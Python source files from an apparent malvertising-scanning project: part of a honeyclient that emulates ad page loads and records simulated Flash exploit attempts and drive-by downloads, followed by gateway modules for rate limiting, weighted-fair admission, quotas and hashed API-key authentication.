    def _execute_frame(self, ctx: _FrameContext, nav_budget: list[int]) -> None:
        frame = ctx.frame
        # 1. Run scripts in document order.
        for script in list(frame.document.scripts()):
            self._run_script_element(ctx, script)
        # 2. Process dynamically inserted content + static resources/subframes.
        self._process_resources(ctx, nav_budget)
        # 3. Timers (bounded rounds; each round may queue more work).
        for _ in range(MAX_TIMER_ROUNDS):
            if not ctx.timers:
                break
            callbacks, ctx.timers = ctx.timers, []
            for callback in callbacks:
                self._run_callback(ctx, callback)
            self._process_resources(ctx, nav_budget)
        # 4. Script-initiated self-navigation.
        if ctx.pending_navigation is not None and nav_budget[0] > 0:
            nav_budget[0] -= 1
            self._follow_navigation(ctx, ctx.pending_navigation)

    def _run_script_element(self, ctx: _FrameContext, script: Element) -> None:
        if script.get("processed"):
            return
        script.set("processed", "1")
        src = script.get("src")
        source = ""
        if src:
            try:
                resolved = ctx.frame.url.resolve(src)
            except UrlError:
                return
            response = self._fetch_resource(ctx, resolved, kind="script")
            if response is None or not response.ok:
                return
            source = response.text()
        else:
            source = script.text_content()
        if not source.strip():
            return
        self._run_source(ctx, source)

    def _run_source(self, ctx: _FrameContext, source: str) -> None:
        try:
            ctx.interpreter.run(source)
        except BudgetExceededError:
            ctx.record(ev.SCRIPT_ERROR, error="budget_exceeded")
        except ThrowSignal as signal:
            ctx.record(ev.SCRIPT_ERROR, error="uncaught_throw",
                       value=to_js_string(signal.value)[:100])
        except AdScriptError as exc:
            ctx.record(ev.SCRIPT_ERROR, error=type(exc).__name__, message=str(exc)[:200])

    def _run_callback(self, ctx: _FrameContext, callback: Any) -> None:
        try:
            if isinstance(callback, str):
                ctx.interpreter.run(callback)
            elif callback is not UNDEFINED and callback is not None:
                ctx.interpreter.call_function(callback, [])
        except BudgetExceededError:
            ctx.record(ev.SCRIPT_ERROR, error="budget_exceeded")
        except AdScriptError as exc:
            ctx.record(ev.SCRIPT_ERROR, error=type(exc).__name__, message=str(exc)[:200])

    # -- resources ---------------------------------------------------------------

    def _process_resources(self, ctx: _FrameContext, nav_budget: list[int]) -> None:
        budget = MAX_RESOURCES_PER_FRAME
        while budget > 0:
            element = self._next_unprocessed(ctx)
            if element is None:
                break
            budget -= 1
            self._process_element(ctx, element, nav_budget)

    def _next_unprocessed(self, ctx: _FrameContext) -> Optional[Element]:
        # Dynamic queue first (scripts create elements mid-run), then a
        # document sweep for statically declared resources.
        while ctx.dynamic_elements:
            element = ctx.dynamic_elements.pop(0)
            if not element.get("processed") and self._is_resource(element) and \
                    self._attached(ctx, element):
                return element
        for element in ctx.frame.document.iter():
            if self._is_resource(element) and not element.get("processed"):
                return element
        return None

    @staticmethod
    def _is_resource(element: Element) -> bool:
        if element.tag == "script":
            return bool(element.get("src"))
        if element.tag in ("img", "embed", "iframe"):
            return bool(element.get("src"))
        if element.tag == "object":
            return bool(element.get("data") or element.get("src"))
        if element.tag == "link":
            return element.get("rel") == "stylesheet" and bool(element.get("href"))
        return False

    @staticmethod
    def _attached(ctx: _FrameContext, element: Element) -> bool:
        node = element
        while node.parent is not None:
            node = node.parent
        return node is ctx.frame.document

    def _process_element(self, ctx: _FrameContext, element: Element,
                         nav_budget: list[int]) -> None:
        element.set("processed", "1")
        tag = element.tag
        if tag == "script":
            element.set("processed", "")  # let _run_script_element own the flag
            self._run_script_element(ctx, element)
            return
        src = element.get("src") or element.get("data") or element.get("href")
        try:
            resolved = ctx.frame.url.resolve(src)
        except UrlError:
            return  # unfetchable scheme/garbage: browsers skip it
        if tag == "iframe":
            if ctx.frame.depth + 1 <= MAX_FRAME_DEPTH:
                self._load_frame(resolved, ctx.load, parent=ctx.frame,
                                 element=element, referrer=str(ctx.frame.url),
                                 nav_budget=nav_budget)
            return
        response = self._fetch_resource(ctx, resolved, kind=tag)
        if response is None:
            return
        content_type = response.content_type.split(";")[0].strip()
        if content_type in FLASH_TYPES:
            download = ctx.load.downloads.record(str(resolved), content_type,
                                                 response.body, initiated_by="plugin")
            ctx.record(ev.DOWNLOAD, content_type=content_type, size=download.size,
                       initiated_by="plugin", url=str(resolved))
            self._run_flash(ctx.load, str(resolved), response.body,
                            frame_url=str(ctx.frame.url), ctx=ctx)
        elif content_type in EXECUTABLE_TYPES:
            download = ctx.load.downloads.record(str(resolved), content_type,
                                                 response.body, initiated_by="script")
            ctx.record(ev.DOWNLOAD, content_type=content_type, size=download.size,
                       initiated_by="script", url=str(resolved))

    def _fetch_resource(self, ctx: _FrameContext, url: Url, kind: str) -> Optional[HttpResponse]:
        try:
            response, chain = self.client.fetch(url, referer=ctx.frame.url)
        except (DnsError, HttpError) as exc:
            ctx.record(ev.NX_REDIRECT, url=str(url), resource=kind,
                       error=type(exc).__name__)
            return None
        for exchange in chain[:-1]:
            ctx.load.events.record(ev.REDIRECT, str(exchange.request.url),
                                   location=exchange.response.headers.get("location", ""))
        failure = self._chain_failure(chain)
        if failure is not None:
            ctx.record(self._failure_event(failure),
                       url=str(chain[-1].request.url), resource=kind,
                       failure=failure)
            return None
        ctx.record(ev.RESOURCE_LOAD, url=str(response.url or url), resource=kind,
                   status=response.status)
        return response

    # -- navigation and auxiliary loads ---------------------------------------------

    def _follow_navigation(self, ctx: _FrameContext, target: str) -> None:
        self._load_auxiliary(ctx, target, initiated_by="navigation")

    def _load_auxiliary(self, ctx: _FrameContext, target: str, initiated_by: str) -> None:
        """Fetch a navigation/popup/click target without replacing the frame tree.

        The honeyclient cares about *where the user ends up* and *what gets
        downloaded*, both of which are captured by fetching the target and
        recording the traffic, downloads and NX failures.
        """
        try:
            resolved = ctx.frame.url.resolve(target)
        except UrlError:
            return
        try:
            response, chain = self.client.fetch(resolved, referer=ctx.frame.url)
        except (DnsError, HttpError) as exc:
            ctx.record(ev.NX_REDIRECT, url=str(resolved), error=type(exc).__name__)
            return
        for exchange in chain[:-1]:
            ctx.load.events.record(ev.REDIRECT, str(exchange.request.url),
                                   location=exchange.response.headers.get("location", ""))
        failure = self._chain_failure(chain)
        if failure is not None:
            ctx.record(self._failure_event(failure),
                       url=str(chain[-1].request.url), failure=failure)
            return
        content_type = response.content_type.split(";")[0].strip()
        final_url = str(response.url or resolved)
        if content_type in EXECUTABLE_TYPES:
            download = ctx.load.downloads.record(final_url, content_type,
                                                 response.body, initiated_by=initiated_by)
            ctx.record(ev.DOWNLOAD, content_type=content_type, size=download.size,
                       initiated_by=initiated_by, url=final_url)
        elif content_type in FLASH_TYPES:
            ctx.load.downloads.record(final_url, content_type, response.body,
                                      initiated_by=initiated_by)
            self._run_flash(ctx.load, final_url, response.body,
                            frame_url=str(ctx.frame.url), ctx=ctx)
        else:
            ctx.record(ev.RESOURCE_LOAD, url=final_url, resource="navigation",
                       status=response.status)

    # -- plugin content -----------------------------------------------------------

    def _run_flash(self, load: PageLoad, url: str, data: bytes,
                   frame_url: str, ctx: Optional[_FrameContext] = None) -> None:
        """Hand Flash bytes to the plugin, attempting any embedded exploit."""
        from repro.malware.samples import parse_flash_container

        info = parse_flash_container(data)
        if info is None or info.exploit_cve is None:
            return
        load.events.record(ev.EXPLOIT_ATTEMPT, frame_url, cve=info.exploit_cve, url=url)
        outcome = self.plugin_profile.attempt_exploit(info.exploit_cve)
        if not outcome.succeeded:
            return
        load.events.record(ev.EXPLOIT_SUCCESS, frame_url, cve=info.exploit_cve,
                           plugin=outcome.plugin.description if outcome.plugin else "")
        if info.payload_url and ctx is not None:
            # Successful exploitation silently drops the payload: a drive-by.
            self._download_payload(ctx, info.payload_url)

    def _download_payload(self, ctx: _FrameContext, payload_url: str) -> None:
        try:
            resolved = ctx.frame.url.resolve(payload_url)
            response, _ = self.client.fetch(resolved, referer=ctx.frame.url)
        except (DnsError, HttpError, UrlError):
            return
        if not response.ok:
            return
        content_type = response.content_type.split(";")[0].strip()
        download = ctx.load.downloads.record(str(resolved), content_type,
                                             response.body, initiated_by="exploit")
        ctx.record(ev.DOWNLOAD, content_type=content_type, size=download.size,
                   initiated_by="exploit", url=str(resolved))

    # -- click support ------------------------------------------------------------

    def _fire_click(self, ctx: _FrameContext, handle: "ElementHandle") -> Any:
        if handle._onclick is not UNDEFINED and handle._onclick is not None:
            self._run_callback(ctx, handle._onclick)
        href = handle.element.get("href")
        if href:
            self._load_auxiliary(ctx, href, initiated_by="user_click")
        return UNDEFINED
