"""Per-tenant sliding-window rate limiting with pluggable backends.

The limiter answers one question — "may this tenant submit *now*?" —
from an exact sliding-window log: a request is admitted iff fewer than
``limit`` requests landed in the last ``window`` seconds.  Unlike fixed
buckets, the exact log cannot be gamed by straddling a bucket boundary,
and because it reads time only through the injected gateway clock the
decision (and the ``retry_after`` it quotes on refusal) is a pure
function of the request history — deterministic under a
:class:`~repro.gateway.clock.ManualClock`.

The backend is an interface so the window state can later live in an
external store shared by many gateway processes; the in-memory
implementation is the reference semantics any other backend must match.
"""

from __future__ import annotations

import threading
from collections import deque
from dataclasses import dataclass


@dataclass(frozen=True)
class RateDecision:
    """One limiter verdict: admitted or refused-with-an-appointment."""

    allowed: bool
    #: Requests inside the window *after* this decision was applied.
    in_window: int
    limit: int
    #: On refusal: seconds until the oldest in-window request expires
    #: (the earliest instant a retry can succeed).  0.0 when allowed.
    retry_after: float = 0.0


class RateLimitBackend:
    """Where sliding-window state lives.

    Implementations must be safe under concurrent callers and must treat
    ``check`` as the single atomic read-modify-write: evict expired
    entries, then either record the request (allowed) or leave state
    untouched and quote a retry time (refused).  Keeping the protocol
    this small is what lets the state move to an external store (one
    round trip per decision) without changing gateway semantics.
    """

    def check(self, tenant_id: str, limit: int, window: float,
              now: float) -> RateDecision:
        raise NotImplementedError

    def reset(self, tenant_id: str) -> None:
        """Forget a tenant's window (admin action)."""
        raise NotImplementedError

    def stats(self) -> dict:
        raise NotImplementedError


class MemorySlidingWindow(RateLimitBackend):
    """The in-process reference backend: one timestamp deque per tenant."""

    def __init__(self) -> None:
        self._windows: dict[str, deque] = {}
        self._lock = threading.Lock()
        self.allowed_total = 0
        self.throttled_total = 0

    def check(self, tenant_id: str, limit: int, window: float,
              now: float) -> RateDecision:
        with self._lock:
            log = self._windows.get(tenant_id)
            if log is None:
                log = self._windows[tenant_id] = deque()
            cutoff = now - window
            while log and log[0] <= cutoff:
                log.popleft()
            if len(log) < limit:
                log.append(now)
                self.allowed_total += 1
                return RateDecision(allowed=True, in_window=len(log),
                                    limit=limit)
            self.throttled_total += 1
            return RateDecision(allowed=False, in_window=len(log),
                                limit=limit,
                                retry_after=max(0.0, log[0] + window - now))

    def reset(self, tenant_id: str) -> None:
        with self._lock:
            self._windows.pop(tenant_id, None)

    def stats(self) -> dict:
        with self._lock:
            return {
                "backend": "memory",
                "tenants_tracked": len(self._windows),
                "allowed_total": self.allowed_total,
                "throttled_total": self.throttled_total,
            }
