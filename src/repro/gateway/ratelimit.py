"""Per-tenant sliding-window rate limiting with pluggable backends.

The limiter answers one question — "may this tenant submit *now*?" —
from an exact sliding-window log: a request is admitted iff fewer than
``limit`` requests landed in the last ``window`` seconds.  Unlike fixed
buckets, the exact log cannot be gamed by straddling a bucket boundary,
and because it reads time only through the injected gateway clock the
decision (and the ``retry_after`` it quotes on refusal) is a pure
function of the request history — deterministic under a
:class:`~repro.gateway.clock.ManualClock`.

The backend is an interface so the window state can later live in an
external store shared by many gateway processes; the in-memory
implementation is the reference semantics any other backend must match.

:class:`TokenBucket` is the deliberate exception: it keeps the backend
protocol but trades the exact window for smoothed admission with a burst
allowance — a tenant may spend up to ``limit × burst`` requests at once,
then refills at ``limit / window`` per second.  Load-generator traffic
is bursty by construction, and a sliding window turns every burst into a
cliff (full budget, then a hard wall for a whole window); the bucket
admits the burst and recovers continuously.  Its decisions are still a
pure function of the request history and the injected clock, so the
conformance suite's shared-semantics and determinism checks apply to it
unchanged — only the window-log-exact assertions are sliding-specific.
"""

from __future__ import annotations

import math
import threading
from collections import deque
from dataclasses import dataclass


@dataclass(frozen=True)
class RateDecision:
    """One limiter verdict: admitted or refused-with-an-appointment."""

    allowed: bool
    #: Requests inside the window *after* this decision was applied.
    in_window: int
    limit: int
    #: On refusal: seconds until the oldest in-window request expires
    #: (the earliest instant a retry can succeed).  0.0 when allowed.
    retry_after: float = 0.0


class RateLimitBackend:
    """Where sliding-window state lives.

    Implementations must be safe under concurrent callers and must treat
    ``check`` as the single atomic read-modify-write: evict expired
    entries, then either record the request (allowed) or leave state
    untouched and quote a retry time (refused).  Keeping the protocol
    this small is what lets the state move to an external store (one
    round trip per decision) without changing gateway semantics.
    """

    def check(self, tenant_id: str, limit: int, window: float,
              now: float) -> RateDecision:
        raise NotImplementedError

    def reset(self, tenant_id: str) -> None:
        """Forget a tenant's window (admin action)."""
        raise NotImplementedError

    def stats(self) -> dict:
        raise NotImplementedError


class MemorySlidingWindow(RateLimitBackend):
    """The in-process reference backend: one timestamp deque per tenant."""

    def __init__(self) -> None:
        self._windows: dict[str, deque] = {}
        self._lock = threading.Lock()
        self.allowed_total = 0
        self.throttled_total = 0

    def check(self, tenant_id: str, limit: int, window: float,
              now: float) -> RateDecision:
        with self._lock:
            log = self._windows.get(tenant_id)
            if log is None:
                log = self._windows[tenant_id] = deque()
            cutoff = now - window
            while log and log[0] <= cutoff:
                log.popleft()
            if len(log) < limit:
                log.append(now)
                self.allowed_total += 1
                return RateDecision(allowed=True, in_window=len(log),
                                    limit=limit)
            self.throttled_total += 1
            return RateDecision(allowed=False, in_window=len(log),
                                limit=limit,
                                retry_after=max(0.0, log[0] + window - now))

    def reset(self, tenant_id: str) -> None:
        with self._lock:
            self._windows.pop(tenant_id, None)

    def stats(self) -> dict:
        with self._lock:
            return {
                "backend": "memory",
                "tenants_tracked": len(self._windows),
                "allowed_total": self.allowed_total,
                "throttled_total": self.throttled_total,
            }


#: Slack when comparing an accrued token balance against the whole-token
#: cost, so a retry at exactly the quoted ``retry_after`` instant is
#: admitted despite float rounding in the refill arithmetic.
_TOKEN_EPSILON = 1e-9


class TokenBucket(RateLimitBackend):
    """Smoothed limiting with a burst allowance.

    The tenant's ``(limit, window)`` pair maps onto bucket terms as
    ``refill rate = limit / window`` tokens per second and ``capacity =
    limit × burst``.  Each admitted request costs one token; a refusal
    quotes ``retry_after`` as the exact time until one whole token has
    accrued.  State per tenant is two floats — no per-request log — so
    the backend is O(1) in both time and space per decision regardless
    of traffic volume.

    ``in_window`` is reported as the consumed capacity (``ceil(capacity
    - tokens)``), the closest analogue to the sliding window's "requests
    currently counted against you".
    """

    def __init__(self, burst: float = 1.0) -> None:
        if burst < 1.0:
            raise ValueError("burst must be >= 1.0")
        self.burst = burst
        #: tenant -> [tokens, last_refill_time]
        self._buckets: dict[str, list[float]] = {}
        self._lock = threading.Lock()
        self.allowed_total = 0
        self.throttled_total = 0

    def check(self, tenant_id: str, limit: int, window: float,
              now: float) -> RateDecision:
        rate = limit / window
        capacity = limit * self.burst
        with self._lock:
            bucket = self._buckets.get(tenant_id)
            if bucket is None:
                bucket = self._buckets[tenant_id] = [capacity, now]
            tokens, last = bucket
            tokens = min(capacity, tokens + max(0.0, now - last) * rate)
            bucket[1] = now
            if tokens >= 1.0 - _TOKEN_EPSILON:
                bucket[0] = tokens - 1.0
                self.allowed_total += 1
                return RateDecision(
                    allowed=True,
                    in_window=math.ceil(capacity - bucket[0] - _TOKEN_EPSILON),
                    limit=limit)
            bucket[0] = tokens
            self.throttled_total += 1
            return RateDecision(
                allowed=False,
                in_window=math.ceil(capacity - tokens - _TOKEN_EPSILON),
                limit=limit,
                retry_after=(1.0 - tokens) / rate)

    def reset(self, tenant_id: str) -> None:
        with self._lock:
            self._buckets.pop(tenant_id, None)

    def stats(self) -> dict:
        with self._lock:
            return {
                "backend": "token_bucket",
                "burst": self.burst,
                "tenants_tracked": len(self._buckets),
                "allowed_total": self.allowed_total,
                "throttled_total": self.throttled_total,
            }
