"""The multi-tenant scan gateway: the service's front door.

Fronts :class:`~repro.service.service.ScanService` with identity and
policy: API-key authentication over hashed key storage
(:mod:`repro.gateway.auth`), per-tenant sliding-window rate limiting
with pluggable backends (:mod:`repro.gateway.ratelimit`), submission and
spend quotas with cheap billing for cache/dedup hits
(:mod:`repro.gateway.quota`), and priority classes feeding a
weighted-fair stride scheduler in front of the bounded ingest queue
(:mod:`repro.gateway.admission`) — composed by
:class:`~repro.gateway.gateway.ScanGateway`, which also exposes the
HTTP-shaped route table (``/v1/scan``, ``/v1/health``, ``/v1/stats``…).

Every decision reads time through one injected clock and uses no
randomness, so gateway behaviour is deterministic and replayable.  The
gateway is strictly additive: a :class:`ScanService` used without one
behaves bit-identically to the pre-gateway service.
"""

from repro.gateway.admission import AdmissionBuffer
from repro.gateway.auth import (
    PRIORITIES,
    PRIORITY_WEIGHTS,
    Tenant,
    TenantRegistry,
    hash_key,
    mint_key,
)
from repro.gateway.clock import Clock, ManualClock
from repro.gateway.errors import (
    AdmissionRejectedError,
    AuthenticationError,
    GatewayDegradedError,
    GatewayError,
    QuotaExceededError,
    RateLimitedError,
    TenantDisabledError,
)
from repro.gateway.gateway import (
    ANONYMOUS_TENANT,
    GatewayConfig,
    GatewayResponse,
    GatewayTicket,
    ScanGateway,
)
from repro.gateway.quota import QuotaLedger, TenantUsage
from repro.gateway.ratelimit import (
    MemorySlidingWindow,
    RateDecision,
    RateLimitBackend,
    TokenBucket,
)

__all__ = [
    "ANONYMOUS_TENANT",
    "AdmissionBuffer",
    "AdmissionRejectedError",
    "AuthenticationError",
    "Clock",
    "GatewayConfig",
    "GatewayDegradedError",
    "GatewayError",
    "GatewayResponse",
    "GatewayTicket",
    "ManualClock",
    "MemorySlidingWindow",
    "PRIORITIES",
    "PRIORITY_WEIGHTS",
    "QuotaExceededError",
    "QuotaLedger",
    "RateDecision",
    "RateLimitBackend",
    "RateLimitedError",
    "ScanGateway",
    "Tenant",
    "TokenBucket",
    "TenantDisabledError",
    "TenantRegistry",
    "TenantUsage",
    "hash_key",
    "mint_key",
]
