"""Weighted-fair admission in front of the bounded ingest queue.

Authenticated, rate-limited, in-quota submissions still contend for one
shared resource: the scan service's bounded :class:`IngestQueue` and the
oracle workers behind it.  A plain FIFO would let one bulk tenant bury
everyone else's requests behind its backlog.  The admission buffer here
is a **stride scheduler** over per-tenant FIFOs:

* each tenant owes a *pass* value; admitting one of its items advances
  the pass by ``stride = STRIDE_UNIT / weight``, where the weight comes
  from the tenant's priority class (``interactive`` 4, ``batch`` 2,
  ``best_effort`` 1);
* the next item admitted is always the queued tenant with the smallest
  pass (ties broken by tenant id) — so over any backlogged interval,
  tenants drain in proportion to their weights regardless of arrival
  order or burst size;
* a tenant going idle forfeits its unused share: on re-activation its
  pass is advanced to the scheduler's virtual time, so saved-up credit
  cannot be used to monopolise the queue later.

The scheduler is pure bookkeeping — no clock, no randomness — so the
admission *order* is a deterministic function of the push/pop sequence
and the weights, which is what the differential and CI-matrix tests pin.
"""

from __future__ import annotations

import threading
from collections import deque
from typing import Any, Optional

from repro.gateway.errors import AdmissionRejectedError

#: Pass-value numerator; any value large relative to the weights works,
#: it just keeps strides integral for the standard weight set.
STRIDE_UNIT = 1 << 16


class _TenantLane:
    """One tenant's FIFO plus its scheduling state."""

    __slots__ = ("tenant_id", "weight", "items", "pass_value", "admitted")

    def __init__(self, tenant_id: str, weight: int, start_pass: float) -> None:
        self.tenant_id = tenant_id
        self.weight = weight
        self.items: deque = deque()
        self.pass_value = start_pass
        self.admitted = 0

    @property
    def stride(self) -> float:
        return STRIDE_UNIT / self.weight


class AdmissionBuffer:
    """Bounded weighted-fair buffer between the gateway and the service."""

    def __init__(self, capacity: int = 1024) -> None:
        if capacity < 1:
            raise ValueError("capacity must be >= 1")
        self.capacity = capacity
        self._lanes: dict[str, _TenantLane] = {}
        self._lock = threading.Lock()
        self._size = 0
        #: Scheduler virtual time: the pass of the most recent admission.
        self._virtual_time = 0.0
        self.pushed_total = 0
        self.admitted_total = 0
        self.rejected_total = 0
        self.high_water = 0

    # -- producer ------------------------------------------------------------

    def push(self, tenant_id: str, weight: int, item: Any) -> int:
        """Queue ``item`` for ``tenant_id``; returns the buffer depth.

        Raises :class:`AdmissionRejectedError` when the buffer is at
        capacity — the gateway's 503, distinct from the 429 a tenant
        earns by exceeding its own rate limit.
        """
        with self._lock:
            if self._size >= self.capacity:
                self.rejected_total += 1
                raise AdmissionRejectedError(
                    f"admission buffer full ({self.capacity} queued)")
            lane = self._lanes.get(tenant_id)
            if lane is None:
                lane = self._lanes[tenant_id] = _TenantLane(
                    tenant_id, weight, self._virtual_time)
            else:
                lane.weight = weight
                if not lane.items:
                    # Re-activation: forfeit credit accrued while idle.
                    lane.pass_value = max(lane.pass_value, self._virtual_time)
            lane.items.append(item)
            self._size += 1
            self.pushed_total += 1
            if self._size > self.high_water:
                self.high_water = self._size
            return self._size

    # -- consumer ------------------------------------------------------------

    def pop(self) -> Optional[tuple[str, Any]]:
        """Admit the fairest next item as ``(tenant_id, item)``, or None."""
        with self._lock:
            lane = self._next_lane()
            if lane is None:
                return None
            item = lane.items.popleft()
            self._size -= 1
            self._virtual_time = lane.pass_value
            lane.pass_value += lane.stride
            lane.admitted += 1
            self.admitted_total += 1
            return lane.tenant_id, item

    def push_front(self, tenant_id: str, item: Any) -> None:
        """Return an admitted-but-unforwardable item to the head of its lane.

        Used when the service's ingest queue refuses the forward (full,
        or degraded): the item keeps its admission priority — the pop
        that failed is undone, pass value included, so retrying later
        reproduces the same fair order.
        """
        with self._lock:
            lane = self._lanes.get(tenant_id)
            if lane is None:  # pragma: no cover - defensive
                lane = self._lanes[tenant_id] = _TenantLane(
                    tenant_id, 1, self._virtual_time)
            lane.items.appendleft(item)
            self._size += 1
            lane.pass_value -= lane.stride
            lane.admitted -= 1
            self.admitted_total -= 1

    def _next_lane(self) -> Optional[_TenantLane]:
        best: Optional[_TenantLane] = None
        for tenant_id in sorted(self._lanes):
            lane = self._lanes[tenant_id]
            if not lane.items:
                continue
            if best is None or lane.pass_value < best.pass_value:
                best = lane
        return best

    # -- introspection -------------------------------------------------------

    def __len__(self) -> int:
        with self._lock:
            return self._size

    @property
    def depth(self) -> int:
        with self._lock:
            return self._size

    def queued_for(self, tenant_id: str) -> int:
        with self._lock:
            lane = self._lanes.get(tenant_id)
            return len(lane.items) if lane is not None else 0

    def stats(self) -> dict:
        with self._lock:
            return {
                "depth": self._size,
                "capacity": self.capacity,
                "pushed_total": self.pushed_total,
                "admitted_total": self.admitted_total,
                "rejected_total": self.rejected_total,
                "high_water": self.high_water,
                "lanes": {
                    tid: {"queued": len(lane.items),
                          "weight": lane.weight,
                          "admitted": lane.admitted}
                    for tid, lane in sorted(self._lanes.items())
                },
            }
