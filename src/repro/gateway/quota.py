"""Per-tenant quotas: submission counts and scan "spend".

Rate limits bound a tenant's *pace*; quotas bound its *total*.  The
ledger tracks two budgets per tenant:

* **submissions** — how many requests the tenant has ever had admitted;
* **spend** — scan cost in abstract units, where a fresh oracle scan
  bills the full ``scan_cost`` and a cache or dedup hit bills the far
  cheaper ``cached_cost``.  The split mirrors the economics of a real
  scanning service (a cached verdict is a dictionary lookup; a fresh
  scan renders the creative through the whole oracle stack) and gives
  tenants an incentive to submit deduplicatable traffic.

Spend is billed when the outcome is known (forward time, when the
service says whether the verdict came from cache), so admission checks
compare *committed* spend against the budget — a tenant over budget is
refused before its request takes an admission slot.
"""

from __future__ import annotations

import threading

from repro.gateway.auth import Tenant
from repro.gateway.errors import QuotaExceededError

#: Default cost units: one fresh oracle scan / one cache-or-dedup hit.
DEFAULT_SCAN_COST = 10.0
DEFAULT_CACHED_COST = 1.0


class TenantUsage:
    """One tenant's running totals (mutated only under the ledger lock)."""

    __slots__ = ("submissions", "spend", "fresh_scans", "cached_hits",
                 "quota_rejections")

    def __init__(self) -> None:
        self.submissions = 0
        self.spend = 0.0
        self.fresh_scans = 0
        self.cached_hits = 0
        self.quota_rejections = 0

    def to_dict(self) -> dict:
        return {
            "submissions": self.submissions,
            "spend": round(self.spend, 6),
            "fresh_scans": self.fresh_scans,
            "cached_hits": self.cached_hits,
            "quota_rejections": self.quota_rejections,
        }


class QuotaLedger:
    """Admission-time quota checks plus outcome-time spend accounting."""

    def __init__(self, scan_cost: float = DEFAULT_SCAN_COST,
                 cached_cost: float = DEFAULT_CACHED_COST) -> None:
        if cached_cost > scan_cost:
            raise ValueError("cached_cost cannot exceed scan_cost")
        self.scan_cost = scan_cost
        self.cached_cost = cached_cost
        self._usage: dict[str, TenantUsage] = {}
        self._lock = threading.Lock()

    def _entry(self, tenant_id: str) -> TenantUsage:
        usage = self._usage.get(tenant_id)
        if usage is None:
            usage = self._usage[tenant_id] = TenantUsage()
        return usage

    # -- admission-time ------------------------------------------------------

    def admit(self, tenant: Tenant) -> None:
        """Charge one submission against ``tenant`` or refuse.

        Refusal is budget-specific (:class:`QuotaExceededError` carries
        which budget ran out) and is counted, so per-tenant rejection
        totals in the rollup are exact.
        """
        with self._lock:
            usage = self._entry(tenant.tenant_id)
            if (tenant.max_submissions is not None
                    and usage.submissions >= tenant.max_submissions):
                usage.quota_rejections += 1
                raise QuotaExceededError(
                    f"tenant {tenant.tenant_id!r} used all "
                    f"{tenant.max_submissions} submissions",
                    kind="submissions")
            if (tenant.max_spend is not None
                    and usage.spend >= tenant.max_spend):
                usage.quota_rejections += 1
                raise QuotaExceededError(
                    f"tenant {tenant.tenant_id!r} spent its budget "
                    f"({usage.spend:g}/{tenant.max_spend:g} units)",
                    kind="spend")
            usage.submissions += 1

    def refund_submission(self, tenant_id: str) -> None:
        """Undo one :meth:`admit` charge (the request never took a slot)."""
        with self._lock:
            usage = self._entry(tenant_id)
            if usage.submissions > 0:
                usage.submissions -= 1

    # -- outcome-time --------------------------------------------------------

    def charge_scan(self, tenant_id: str, cached: bool) -> float:
        """Bill one forwarded submission's actual cost; returns the cost."""
        cost = self.cached_cost if cached else self.scan_cost
        with self._lock:
            usage = self._entry(tenant_id)
            usage.spend += cost
            if cached:
                usage.cached_hits += 1
            else:
                usage.fresh_scans += 1
        return cost

    # -- introspection -------------------------------------------------------

    def usage(self, tenant_id: str) -> TenantUsage:
        with self._lock:
            return self._entry(tenant_id)

    def snapshot(self) -> dict:
        """Every tenant's totals, in stable id order."""
        with self._lock:
            return {tid: usage.to_dict()
                    for tid, usage in sorted(self._usage.items())}
