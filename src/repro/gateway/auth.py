"""Tenant identities and API-key authentication (hashed key storage).

A tenant is the unit of accountability in front of the scan service:
every submission is attributed to exactly one, and rate limits, quotas
and priority all hang off the tenant record.  Keys are never stored in
the clear — the registry keeps only ``sha256(key)`` and authenticates by
hashing the presented key, so a leaked tenants file does not leak
credentials (mirroring how real scanning services store API keys).

Key minting is deterministic on request: :func:`mint_key` derives a key
from ``(secret_seed, tenant_id)`` so test fixtures and seeded demos can
reconstruct their keys without persisting plaintext anywhere.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Iterable, Optional, Union

from repro.gateway.errors import AuthenticationError, TenantDisabledError

PathLike = Union[str, Path]

#: Priority classes, strongest first.  The weights feed the stride
#: scheduler in :mod:`repro.gateway.admission`: an ``interactive``
#: tenant's backlog drains 4× as fast as a ``best_effort`` tenant's
#: when both are queued.
PRIORITY_WEIGHTS = {
    "interactive": 4,
    "batch": 2,
    "best_effort": 1,
}
PRIORITIES = tuple(PRIORITY_WEIGHTS)


def hash_key(api_key: str) -> str:
    """The stored form of an API key (sha256 hex)."""
    return hashlib.sha256(api_key.encode("utf-8")).hexdigest()


def mint_key(secret_seed: int, tenant_id: str) -> str:
    """Derive a tenant's API key deterministically from a secret seed.

    The seed plays the role of the key-server's secret: anyone holding it
    can re-derive every key, anyone holding only the registry (hashes)
    cannot.  Demos, tests and the CLI all mint through this so no
    plaintext key ever needs to be written down.
    """
    digest = hashlib.sha256(
        f"repro-gateway-key:{secret_seed}:{tenant_id}".encode("utf-8"))
    return f"rg_{digest.hexdigest()[:40]}"


@dataclass(frozen=True)
class Tenant:
    """One customer of the scan service, with all its policy knobs."""

    tenant_id: str
    name: str = ""
    #: Priority class; must be a key of :data:`PRIORITY_WEIGHTS`.
    priority: str = "batch"
    #: Sliding-window rate limit: at most ``rate_limit`` submissions per
    #: ``rate_window`` seconds.  ``None`` disables rate limiting.
    rate_limit: Optional[int] = 60
    rate_window: float = 60.0
    #: Lifetime submission-count quota (``None`` = unlimited).
    max_submissions: Optional[int] = None
    #: Lifetime scan-spend quota in cost units (``None`` = unlimited).
    #: Fresh scans bill the full scan cost; cache/dedup hits bill the
    #: (much cheaper) cached cost — see :mod:`repro.gateway.quota`.
    max_spend: Optional[float] = None
    #: Switched-off tenants authenticate but every request is refused.
    enabled: bool = True

    def __post_init__(self) -> None:
        if self.priority not in PRIORITY_WEIGHTS:
            raise ValueError(
                f"unknown priority {self.priority!r} "
                f"(expected one of {PRIORITIES})")
        if self.rate_limit is not None and self.rate_limit < 1:
            raise ValueError("rate_limit must be >= 1 (or None)")
        if self.rate_window <= 0:
            raise ValueError("rate_window must be positive")

    @property
    def weight(self) -> int:
        """The tenant's fair-share weight (from its priority class)."""
        return PRIORITY_WEIGHTS[self.priority]

    def to_dict(self) -> dict:
        return {
            "tenant_id": self.tenant_id,
            "name": self.name,
            "priority": self.priority,
            "rate_limit": self.rate_limit,
            "rate_window": self.rate_window,
            "max_submissions": self.max_submissions,
            "max_spend": self.max_spend,
            "enabled": self.enabled,
        }

    @classmethod
    def from_dict(cls, data: dict) -> "Tenant":
        known = {f for f in cls.__dataclass_fields__}  # type: ignore[attr-defined]
        fields = {k: v for k, v in data.items() if k in known}
        return cls(**fields)


class TenantRegistry:
    """Hashed-key credential store: ``sha256(key) -> Tenant``.

    The registry is the authentication half of the gateway; everything
